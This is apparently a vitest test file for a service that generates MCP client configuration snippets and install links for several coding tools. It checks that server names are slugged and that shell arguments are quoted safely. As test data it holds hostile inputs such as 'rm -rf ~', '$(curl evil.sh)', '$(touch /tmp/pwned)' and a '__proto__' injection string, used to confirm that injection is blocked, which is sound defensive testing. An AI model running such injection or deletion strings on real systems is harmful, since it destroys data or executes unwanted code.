import { execFileSync } from "node:child_process";
import { describe, expect, it } from "vitest";
import {
  buildClientSnippets,
  type ClientSnippet,
  type ClientSnippetId,
  shellQuote,
  snippetServerKey,
  TOKEN_PLACEHOLDER,
} from "@/server/services/connections/client-snippets";

const URL = "https://gatehouse.example.com/mcp/AbCdEfGhIjKlMnOpQrStUvWxYz0123456789_-abcde";
const BEARER = `Bearer ${TOKEN_PLACEHOLDER}`;
/** The literal text mcp-remote expands from its environment (not a JS template). */
const MCP_REMOTE_HEADER = `Authorization:\${AUTH_HEADER}`;

function snippet(snippets: ClientSnippet[], id: ClientSnippetId): ClientSnippet {
  const found = snippets.find((entry) => entry.id === id);
  if (!found) throw new Error(`no ${id} snippet`);
  return found;
}

/** What a POSIX shell makes of a command line: its arguments, one per line (printf runs no code). */
function shellWords(commandLine: string): string[] {
  const output = execFileSync("sh", ["-c", `set -- ${commandLine}; printf '%s\\n' "$@"`], {
    encoding: "utf8",
  });
  return output.split("\n").slice(0, -1);
}

describe("snippetServerKey", () => {
  it.each([
    ["GitHub", "github"],
    ["GitHub (2)", "github-2"],
    ["Café Données", "cafe-donnees"],
    ["  --rm -rf /  ", "rm-rf"],
    ["$(curl evil.sh)`id`;'\"", "curl-evil-sh-id"],
    ["日本語", "gatehouse"],
    ["", "gatehouse"],
    ["a".repeat(100), "a".repeat(64)],
  ])("%j → %j", (name, key) => {
    expect(snippetServerKey(name)).toBe(key);
  });
});

describe("shellQuote", () => {
  it.each([
    "plain",
    "https://example.com/mcp/abc_-123",
    "Authorization: Bearer <YOUR_GATEHOUSE_TOKEN>",
    "it's",
    "$(touch /tmp/pwned)",
    "`id`",
    "a'b\"c$d`e\\f!g",
    "semi;colon && pipe | x",
    "",
  ])("%j survives the shell as one argument, unexpanded", (value) => {
    expect(shellWords(shellQuote(value))).toEqual([value]);
  });

  it("writes the bearer header the way people read it", () => {
    expect(shellQuote("Authorization: Bearer <YOUR_GATEHOUSE_TOKEN>")).toBe(
      '"Authorization: Bearer <YOUR_GATEHOUSE_TOKEN>"',
    );
  });
});

describe("buildClientSnippets", () => {
  const snippets = buildClientSnippets({ name: "GitHub (2)", url: URL });

  it("offers every client, in order", () => {
    expect(snippets.map((entry) => entry.id)).toEqual([
      "claude-code",
      "cursor",
      "vscode",
      "windsurf",
      "claude-desktop",
      "json",
    ]);
  });

  it("Claude Code: one command with the transport, key, URL and bearer header", () => {
    const { code } = snippet(snippets, "claude-code");
    expect(code).toBe(
      `claude mcp add --transport http github-2 ${URL} --header "Authorization: Bearer <YOUR_GATEHOUSE_TOKEN>"`,
    );
    expect(shellWords(code.replace(/^claude /, ""))).toEqual([
      "mcp",
      "add",
      "--transport",
      "http",
      "github-2",
      URL,
      "--header",
      `Authorization: ${BEARER}`,
    ]);
  });

  it("Claude Code: a hostile name cannot inject into the command", () => {
    const hostile = buildClientSnippets({ name: "x'; rm -rf ~; echo '$(id)`", url: URL });
    const words = shellWords(snippet(hostile, "claude-code").code.replace(/^claude /, ""));
    expect(words).toEqual([
      "mcp",
      "add",
      "--transport",
      "http",
      "x-rm-rf-echo-id",
      URL,
      "--header",
      `Authorization: ${BEARER}`,
    ]);
  });

  it("Cursor: mcp.json and an install link that decodes back to the same server config", () => {
    const cursor = snippet(snippets, "cursor");
    expect(cursor.location).toBe("~/.cursor/mcp.json");
    expect(JSON.parse(cursor.code)).toEqual({
      mcpServers: { "github-2": { url: URL, headers: { Authorization: BEARER } } },
    });
    const link = new globalThis.URL(cursor.installLink?.href ?? "");
    expect(`${link.protocol}//${link.host}${link.pathname}`).toBe(
      "cursor://anysphere.cursor-deeplink/mcp/install",
    );
    expect(link.searchParams.get("name")).toBe("github-2");
    const config = JSON.parse(Buffer.from(link.searchParams.get("config") ?? "", "base64").toString("utf8"));
    expect(config).toEqual(JSON.parse(cursor.code).mcpServers["github-2"]);
  });

  it("Cursor: the base64 config is percent-encoded, so '+' and '/' survive query parsing", () => {
    // This URL's bytes base64-encode to text containing '+' and '/'.
    const url = "https://g.example/mcp/~~~>>>???";
    const link = snippet(buildClientSnippets({ name: "n", url }), "cursor").installLink?.href ?? "";
    const raw = /config=([^&]*)/.exec(link)?.[1] ?? "";
    expect(decodeURIComponent(raw)).toMatch(/[+/]/);
    expect(raw).not.toMatch(/[+/=]/);
    const decoded = Buffer.from(
      new globalThis.URL(link).searchParams.get("config") ?? "",
      "base64",
    ).toString();
    expect(JSON.parse(decoded)).toEqual({ url, headers: { Authorization: BEARER } });
  });

  it("VS Code: .vscode/mcp.json and a vscode:mcp/install link carrying the same server", () => {
    const vscode = snippet(snippets, "vscode");
    expect(vscode.location).toBe(".vscode/mcp.json");
    expect(JSON.parse(vscode.code)).toEqual({
      servers: { "github-2": { type: "http", url: URL, headers: { Authorization: BEARER } } },
    });
    const href = vscode.installLink?.href ?? "";
    expect(href.startsWith("vscode:mcp/install?")).toBe(true);
    expect(JSON.parse(decodeURIComponent(href.slice("vscode:mcp/install?".length)))).toEqual({
      name: "github-2",
      type: "http",
      url: URL,
      headers: { Authorization: BEARER },
    });
  });

  it("Windsurf: serverUrl, not url", () => {
    const windsurf = snippet(snippets, "windsurf");
    expect(windsurf.location).toBe("~/.codeium/windsurf/mcp_config.json");
    expect(JSON.parse(windsurf.code)).toEqual({
      mcpServers: { "github-2": { serverUrl: URL, headers: { Authorization: BEARER } } },
    });
    expect(windsurf.installLink).toBeNull();
  });

  it("Claude Desktop: mcp-remote with the header taken from the environment", () => {
    expect(JSON.parse(snippet(snippets, "claude-desktop").code)).toEqual({
      mcpServers: {
        "github-2": {
          command: "npx",
          args: ["-y", "mcp-remote", URL, "--header", MCP_REMOTE_HEADER],
          env: { AUTH_HEADER: BEARER },
        },
      },
    });
  });

  it("Claude Desktop: plain http to a non-local host needs mcp-remote's --allow-http; localhost does not", () => {
    const args = (url: string) =>
      JSON.parse(snippet(buildClientSnippets({ name: "n", url }), "claude-desktop").code).mcpServers.n.args;
    expect(args("http://gatehouse.internal:3000/mcp/x")).toEqual([
      "-y",
      "mcp-remote",
      "http://gatehouse.internal:3000/mcp/x",
      "--allow-http",
      "--header",
      MCP_REMOTE_HEADER,
    ]);
    expect(args("http://localhost:3000/mcp/x")).toEqual([
      "-y",
      "mcp-remote",
      "http://localhost:3000/mcp/x",
      "--header",
      MCP_REMOTE_HEADER,
    ]);
  });

  it("generic JSON: the common mcpServers shape with an http transport", () => {
    expect(JSON.parse(snippet(snippets, "json").code)).toEqual({
      mcpServers: { "github-2": { type: "http", url: URL, headers: { Authorization: BEARER } } },
    });
  });

  it("a hostile name stays a plain key in every JSON snippet", () => {
    const hostile = buildClientSnippets({ name: '"},"__proto__":{"x":1}', url: URL });
    for (const entry of hostile.filter((item) => item.language === "json")) {
      const parsed = JSON.parse(entry.code);
      const root = parsed.mcpServers ?? parsed.servers;
      expect(Object.keys(root)).toEqual(["proto-x-1"]);
    }
  });

  it("uses a real token when one is given", () => {
    const withToken = buildClientSnippets({ name: "n", url: URL, token: "gh_abc_def" });
    expect(JSON.parse(snippet(withToken, "cursor").code).mcpServers.n.headers).toEqual({
      Authorization: "Bearer gh_abc_def",
    });
  });
});
